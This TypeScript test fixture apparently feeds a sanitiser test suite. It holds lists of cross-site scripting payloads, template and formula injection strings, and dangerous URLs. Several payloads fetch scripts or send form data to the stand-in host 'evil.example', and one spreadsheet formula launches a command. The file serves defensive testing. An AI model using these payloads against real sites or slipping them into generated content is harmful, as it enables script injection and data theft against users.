import { runs } from '../round.ts'
import { sample } from './damage.ts'

/** The host that no page may ever request, link or name in an attribute. */
export const evilHost = 'evil.example'

/** Every one of them calls `pwned`, or requests something from `evilHost`, wherever it becomes markup or code. */
const elements = [
  '<script>pwned()</script>',
  `<script src=//${evilHost}/x.js></script>`,
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<marquee onstart=pwned()>x</marquee>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<a href=javascript:pwned()>x</a>',
  '<object data=javascript:pwned()></object>',
  `<embed src=//${evilHost}/x.swf>`,
  `<base href=//${evilHost}/>`,
  `<link rel=stylesheet href=//${evilHost}/x.css>`,
  `<meta http-equiv=refresh content=0;//${evilHost}/>`,
  `<style>@import "//${evilHost}/x.css"</style>`,
  `<form action=//${evilHost}/><button>x</button></form>`,
  '<math href=javascript:pwned()>x</math>',
  '<x onclick=pwned() tabindex=1 id=x autofocus onfocus=pwned()>x',
  '<template><script>pwned()</script></template>',
]

/** What may end the place that a text is in. */
const ends = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '-->',
  ']]>',
  '` ',
  '\\">',
]

const others = [
  '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  "' onerror='pwned()' x='",
  '"};pwned();//',
  "';pwned();//",
  '\\";pwned();//',
  '</script><!--<script>pwned()',
  '<!--<script>pwned()//-->',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=pwned()\\x3e',
  '&lt;img src=x onerror=pwned()&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '＜script＞pwned()＜/script＞',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<img/src=x/onerror=pwned()>',
  '<<img src=x onerror=pwned()>>',
  '<img src=`x`onerror=pwned()>',
  'x\u2028<svg/onload=pwned()>',
  'javascript:pwned()//',
  'data:text/html,<script>pwned()</script>',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become a template
  '${pwned()}',
  '<%= pwned() %>',
  '#{pwned()}',
  '[x](javascript:pwned())',
  `![x](//${evilHost}/x.png)`,
  '__proto__',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
  `url(//${evilHost}/x)`,
  'expression(pwned())',
  '=cmd|"/c calc"!A1',
]

/** Texts that run a script where one is not escaped; each occurs once. */
export const scriptTexts = [
  ...sample(
    elements.flatMap((element) => ends.map((end) => end + element)),
    runs(15, 1000),
  ),
  ...sample(others, runs(15, 1000)),
]

/** A text for fields that take a few dozen characters only. */
export const shortScript = '"><svg onload=pwned()>'

/** Addresses that no field for an address may take. */
export const refusedAddresses = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  '\u0001javascript:pwned()',
  'javascript://example.org/%0apwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  'blob:https://example.org/x',
  `//${evilHost}`,
  `/\\${evilHost}`,
  'https://example.org/"onmouseover="pwned()',
  'https://example.org/<script>pwned()</script>',
]

/** Formatted texts as a client may send them. */
export const scriptMarkup = (text: string) =>
  `<h2>A heading</h2><p onclick="pwned()" style="background:url(//${evilHost}/x)">A paragraph</p>${text}` +
  `<p><a href="javascript:pwned()">one</a> <a href=" java&#10;script:pwned()">two</a> <a href="data:text/html,x">three</a></p>`
